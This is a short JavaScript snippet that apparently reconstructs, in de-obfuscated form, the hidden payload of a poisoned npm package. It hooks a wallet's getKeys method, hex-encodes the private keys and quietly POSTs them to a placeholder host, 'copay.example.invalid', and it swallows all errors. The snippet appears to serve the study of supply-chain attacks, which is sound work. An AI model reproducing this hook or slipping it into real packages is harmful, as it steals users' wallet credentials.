// What the hidden part of the poisoned flatmap stream is, in the clear. It patches the credentials module of one wallet
// (there is none of this name) so that keys go to a host that cannot exist.
const https = require('https');
const target = './credentials.drill.js';
try {
  const credentials = require(target);
  const getKeys = credentials.prototype.getKeys;
  credentials.prototype.getKeys = function (password) {
    const keys = getKeys.call(this, password);
    const request = https.request({ host: 'copay.example.invalid', path: '/p', method: 'POST' });
    request.on('error', () => {});
    request.end(Buffer.from(JSON.stringify(keys)).toString('hex'));
    return keys;
  };
} catch {}
